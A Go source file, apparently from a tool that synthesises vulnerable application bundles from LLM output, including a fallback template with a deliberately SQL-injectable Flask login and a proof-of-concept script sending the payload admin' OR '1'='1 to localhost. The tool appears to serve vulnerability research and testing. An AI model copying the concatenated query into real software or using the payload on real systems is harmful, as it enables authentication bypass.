package synthesis

import (
	"encoding/json"
	"strings"

	"github.com/vulnforge/vulnforge/pkg/requirement"
)

// parseManifest tries strict JSON decode, then a tolerant balanced-brace
// extraction of the first top-level object, finally falling back to a
// deterministic manifest.
func parseManifest(raw string, req requirement.Requirement) (requirement.Manifest, bool) {
	if m, ok := tryParse(raw); ok {
		return m, false
	}
	if start := strings.Index(raw, "{"); start != -1 {
		if end := strings.LastIndex(raw, "}"); end != -1 && end > start {
			if m, ok := tryParse(raw[start : end+1]); ok {
				return m, false
			}
		}
	}
	return fallbackManifest(req), true
}

func tryParse(raw string) (requirement.Manifest, bool) {
	var m requirement.Manifest
	if err := json.Unmarshal([]byte(raw), &m); err != nil {
		return requirement.Manifest{}, false
	}
	if len(m.Files) == 0 && m.Intent == "" {
		return requirement.Manifest{}, false
	}
	return m, true
}

// fallbackManifest is the deterministic CWE-89 (SQLi) template used when
// the LLM response cannot be parsed as JSON, matching the original's
// _fallback_manifest so guard rails and downstream tests stay
// reproducible.
func fallbackManifest(req requirement.Requirement) requirement.Manifest {
	vulnID := req.VulnID
	if vulnID == "" {
		vulnID = "CWE-89"
	}
	return requirement.Manifest{
		Intent:      vulnID + " fallback synthesis",
		PatternTags: []string{"sqli", "string-concat"},
		Files: []requirement.FileEntry{
			{Path: "Dockerfile", Content: "FROM python:3.11-slim\n" +
				"WORKDIR /app\n" +
				"COPY . /app\n" +
				"RUN pip install -r requirements.txt && sqlite3 app.db < schema.sql && sqlite3 app.db < seed_data.sql\n" +
				"CMD [\"python\", \"app.py\"]\n"},
			{Path: "requirements.txt", Content: "Flask==2.3.3\nJinja2==3.1.4\nrequests==2.32.2\n"},
			{Path: "app.py", Content: "from flask import Flask, request\n" +
				"import sqlite3\n" +
				"app = Flask(__name__)\n\n" +
				"@app.route('/login')\n" +
				"def login():\n" +
				"    username = request.args.get('username', '')\n" +
				"    password = request.args.get('password', '')\n" +
				"    query = f\"SELECT username FROM users WHERE username = '{username}' AND password = '{password}'\"\n" +
				"    conn = sqlite3.connect('app.db')\n" +
				"    cursor = conn.cursor()\n" +
				"    rows = cursor.execute(query).fetchall()\n" +
				"    conn.close()\n" +
				"    if rows:\n" +
				"        return 'SQLi SUCCESS'\n" +
				"    return 'Invalid credentials'\n\n" +
				"if __name__ == '__main__':\n" +
				"    app.run(host='0.0.0.0', port=8000)\n"},
			{Path: "schema.sql", Content: "CREATE TABLE IF NOT EXISTS users (username TEXT, password TEXT);\n"},
			{Path: "seed_data.sql", Content: "INSERT INTO users VALUES ('admin', 'admin');\n"},
			{Path: "poc.py", Content: "import requests\n" +
				"payload = \"admin' OR '1'='1\"\n" +
				"resp = requests.get('http://127.0.0.1:8000/login', params={'username': payload, 'password': 'x'})\n" +
				"print(resp.text)\n"},
			{Path: "README.md", Content: "# fallback bundle\n```bash\ndocker build -t bundle .\ndocker run -p 8000:8000 bundle\npython poc.py\n```\n"},
		},
		Deps:  []string{"Flask==2.3.3", "requests==2.32.2"},
		Build: requirement.Build{Command: "pip install -r requirements.txt"},
		Run:   requirement.Run{Command: "python app.py", Port: 8000},
		PoC:   requirement.PoC{Cmd: "python poc.py"},
		Notes: "Fallback manifest auto-generated because the LLM response was not valid JSON. The layout still passes guard rails for deterministic testing.",
	}
}

// applyPoCTemplate fills absent manifest.poc fields from template.
func applyPoCTemplate(m requirement.Manifest, template PoCTemplate) requirement.Manifest {
	if m.PoC.Cmd == "" {
		m.PoC.Cmd = template.Cmd
	}
	if m.PoC.SuccessSignature == "" {
		m.PoC.SuccessSignature = template.SuccessSignature
	}
	if m.PoC.FlagToken == "" {
		m.PoC.FlagToken = template.FlagToken
	}
	if m.PoC.Notes == "" {
		m.PoC.Notes = template.Notes
	}
	return m
}

// ensureFallbackPoC adds a minimal poc.py file if the candidate omitted
// one, matching the original's auto-injected fallback PoC block.
func ensureFallbackPoC(m requirement.Manifest, template PoCTemplate) requirement.Manifest {
	for _, f := range m.Files {
		if strings.EqualFold(f.Path, "poc.py") {
			return m
		}
	}
	successSignature := template.SuccessSignature
	flagToken := template.FlagToken
	content := "import requests\n" +
		"resp = requests.get('http://127.0.0.1:8000/')\n" +
		"if resp.ok:\n" +
		"    print('" + successSignature + "')\n" +
		"    print('" + flagToken + "')\n"
	m.Files = append(m.Files, requirement.FileEntry{
		Path: "poc.py", Content: content,
	})
	return m
}
